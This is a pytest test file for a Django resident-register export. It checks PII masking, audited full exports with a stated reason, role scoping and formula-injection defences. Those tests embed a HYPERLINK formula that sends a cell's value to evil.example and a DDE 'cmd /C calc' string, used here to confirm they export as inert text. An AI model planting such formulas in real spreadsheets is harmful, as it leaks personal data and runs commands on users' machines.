"""Exporting the register: masked by default, full only with reveal_pii and audited,
scoped to the user's reach, and a constant number of queries however many rows."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl.cell import WriteOnlyCell

from gongzhi.core.models import AuditEvent
from gongzhi.places.services import resident_create, resident_update
from gongzhi.register.models import ImportJob
from gongzhi.register.services import COLUMNS, register_export, register_import_validate

from .conftest import id_number, person


def _download(client, **data) -> bytes:
    response = client.post(reverse("register:export"), data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content)


def _sheet(client, **data):
    """(the notice row an unmasked export opens with or None, the header, the rows)."""
    sheet = openpyxl.load_workbook(io.BytesIO(_download(client, **data))).active
    values = list(sheet.values)
    notice = None
    if str(values[0][0]).startswith("导出人："):
        notice, *values = values
    header, *rows = values
    return notice, header, [dict(zip(header, row, strict=True)) for row in rows]


def _export(client, **data):
    notice, header, rows = _sheet(client, **data)
    assert (notice is not None) == bool(data.get("reason")), notice
    return header, rows


FULL = {"reveal": "on", "reason": "home_visit"}


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("staff", 200),
        ("grid", 200),
        ("subdistrict", 200),
        ("building", 403),
        ("entrance", 403),
        ("nobody", 404),
    ],
)
def test_export_page_per_role(world, login, role, status):
    assert login(world.users[role]).get(reverse("register:export")).status_code == status


def test_export_is_masked_by_default(world, login):
    header, rows = _export(login(world.users["staff"]))
    assert list(header) == [*COLUMNS, "状态"]
    assert sorted(r["姓名"] for r in rows) == ["张三", "李四", "王五"]
    zhangsan = next(r for r in rows if r["姓名"] == "张三")
    assert (
        zhangsan["身份证号"]
        == world.residents["zhangsan"].id_number[:6]
        + "********"
        + world.residents["zhangsan"].id_number[-4:]
    )
    assert zhangsan["手机号"] == "138****5678"
    assert (zhangsan["楼栋号"], zhangsan["单元号"], zhangsan["门牌号"], zhangsan["关爱标签"]) == (
        "1",
        1,
        "101",
        "独居",
    )
    assert zhangsan["与户主关系"] == "户主"
    assert not AuditEvent.objects.filter(action="register.export.revealed").exists()
    completed = AuditEvent.objects.get(action="register.export.completed")
    assert completed.changes["count"] == 3
    assert completed.changes["revealed"] == 0
    assert completed.actor == world.users["staff"]


def test_export_in_full_is_recorded_in_one_event(world, login):
    header, rows = _export(login(world.users["staff"]), **FULL)
    zhangsan = next(r for r in rows if r["姓名"] == "张三")
    assert zhangsan["身份证号"] == world.residents["zhangsan"].id_number
    assert zhangsan["手机号"] == "13812345678"
    [revealed] = AuditEvent.objects.filter(action="register.export.revealed")
    assert revealed.changes["count"] == 3
    assert sorted(revealed.changes["residents"]) == sorted(
        world.residents[k].pk for k in ("zhangsan", "lisi", "wangwu")
    )
    assert "13812345678" not in str(revealed.changes)
    assert (revealed.changes["reason"], revealed.changes["reason_note"]) == ("home_visit", "")
    [completed] = AuditEvent.objects.filter(action="register.export.completed")
    assert completed.changes["reason"] == "home_visit"


def test_user_without_reveal_gets_masked_even_when_asking(world, login):
    # Subdistrict staff may export but not reveal; the option is not offered and is ignored.
    client = login(world.users["subdistrict"])
    assert "导出完整信息" not in client.get(reverse("register:export")).content.decode()
    _header, rows = _export(client, reveal="on")
    assert len(rows) == 4
    assert all("*" in r["身份证号"] for r in rows)
    assert not AuditEvent.objects.filter(action="register.export.revealed").exists()


def test_grid_chief_exports_only_their_grid(world, login):
    _header, rows = _export(login(world.users["grid"]))
    assert sorted(r["姓名"] for r in rows) == ["张三", "李四"]


def test_filter_to_a_building(world, login):
    _header, rows = _export(login(world.users["staff"]), building=world.b2.pk)
    assert [r["姓名"] for r in rows] == ["王五"]


def test_building_outside_reach_is_refused(world, login):
    response = login(world.users["grid"]).post(
        reverse("register:export"), {"building": world.b2.pk}
    )
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action__startswith="register.export").exists()


def test_export_query_count_does_not_grow_with_rows(world, login):
    client = login(world.users["staff"])
    with CaptureQueriesContext(connection) as few:
        _export(client, **FULL)
    household = world.households["1-1-101"]
    for n in range(20):
        resident_create(
            actor=None,
            household=household,
            name=f"新{n}",
            id_number=id_number(500 + n),
            phone=f"1380000{n:04d}",
        )
    client = login(world.users["staff"])
    with CaptureQueriesContext(connection) as many:
        _header, rows = _export(client, **FULL)
    assert len(rows) == 23
    assert len(many) == len(few)


# --- the reason, the notice on every sheet ---------------------------------------------


@pytest.mark.parametrize(
    ("data", "field", "message"),
    [
        ({"reveal": "on"}, "reason", "请先选择查看事由（入户走访、核实身份、紧急联系或其他）。"),
        ({"reveal": "on", "reason": "other"}, "reason_note", "选择“其他”时，请写明查看事由。"),
    ],
)
def test_export_in_full_needs_a_reason(world, login, data, field, message):
    client = login(world.users["staff"])
    response = client.post(reverse("register:export"), {**data, "reason_note": ""})
    assert response.status_code == 400
    assert response.context["form"].errors[field] == [message]
    assert message in response.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="register.export").exists()


def test_export_page_offers_the_reasons_as_choices(world, login):
    html = login(world.users["staff"]).get(reverse("register:export")).content.decode()
    assert "查看事由" in html
    for value, label in [
        ("home_visit", "入户走访"),
        ("verify_identity", "核实身份"),
        ("emergency", "紧急联系"),
        ("other", "其他（请说明）"),
    ]:
        assert f'type="radio" name="reason" value="{value}"' in html
        assert f"<span>{label}</span>" in html
    assert 'style="' not in html


def test_the_service_refuses_an_unmasked_export_without_a_reason(world):
    with pytest.raises(ValidationError) as exc:
        register_export(actor=world.users["staff"], reveal=True)
    assert list(exc.value.message_dict) == ["reason"]
    assert not AuditEvent.objects.filter(action__startswith="register.export").exists()


def test_unmasked_export_names_the_exporter_on_every_sheet(world, login):
    staff = world.users["staff"]
    content = _download(
        login(staff), reveal="on", reason="other", reason_note="核对 & 更新低保名单"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        first = sheet.cell(row=1, column=1).value
        assert first.startswith(f"导出人：{staff}")
        assert "导出时间：" in first and first.endswith("仅限工作使用，不得外传")
        assert sheet.oddHeader.center.text == first.replace("&", "&&")
        assert sheet.oddFooter.center.text.startswith(first)
        assert sheet.freeze_panes == "A3"
    event = AuditEvent.objects.get(action="register.export.revealed")
    assert (event.changes["reason"], event.changes["reason_note"]) == (
        "other",
        "核对 & 更新低保名单",
    )


def test_masked_export_carries_the_notice_in_header_and_footer_only(world, login):
    staff = world.users["staff"]
    sheet = openpyxl.load_workbook(io.BytesIO(_download(login(staff)))).active
    assert [c.value for c in sheet[1]] == [*COLUMNS, "状态"]
    assert sheet.oddFooter.center.text.startswith(f"导出人：{staff}")


# --- formulas never leave as formulas -------------------------------------------------

ATTACK = '=HYPERLINK("http://evil.example/?"&F2, "点击")'


def _formulas(content: bytes) -> list[str]:
    """Every formula element in every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f>.*?</f>", archive.read(name).decode())
        ]


@pytest.mark.parametrize(
    # A carriage return does not survive XML; tests/core/test_exports.py covers it.
    "note",
    [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
)
def test_a_note_that_looks_like_a_formula_is_exported_as_quoted_text(world, login, note):
    resident_update(actor=None, resident=world.residents["zhangsan"], note=note)
    content = _download(login(world.users["staff"]), **FULL)
    assert _formulas(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value and note in str(c.value)]
    assert (cell.value, cell.data_type) == ("'" + note, "s")


def test_an_error_sheet_does_not_replay_a_formula_from_the_upload(world, login):
    # The attack typed as text in the uploaded sheet (a formula cell would be read as its
    # cached value, which a generated file does not have).
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("居民登记")
    sheet.append(COLUMNS)
    row = person(1, 楼层=99)
    cells = [WriteOnlyCell(sheet, value=row[c]) for c in COLUMNS]
    cells[COLUMNS.index("备注")] = note = WriteOnlyCell(sheet, value="x")
    note.value, note.data_type = ATTACK, "s"
    sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)

    client = login(world.users["staff"])
    upload = io.BytesIO(buffer.getvalue())
    upload.name = "登记表.xlsx"
    client.post(reverse("register:home"), {"community": world.wj.pk, "file": upload})
    job = ImportJob.objects.get()
    content = client.get(reverse("register:job_errors", args=[job.pk])).content
    assert _formulas(content) == []
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
    assert rows[1][COLUMNS.index("备注") + 1] == "'" + ATTACK


def test_an_unmasked_export_imports_back_unchanged(world, login):
    resident_update(actor=None, resident=world.residents["zhangsan"], note="-3号楼旁")
    content = _download(login(world.users["staff"]), **FULL)
    validation = register_import_validate(community=world.wj, data=content)
    assert validation.errors == []
    assert sorted(r.row for r in validation.rows) == [3, 4, 5]
    notes = {r.resident.name: r.note for r in validation.rows}
    assert notes["张三"] == "-3号楼旁"
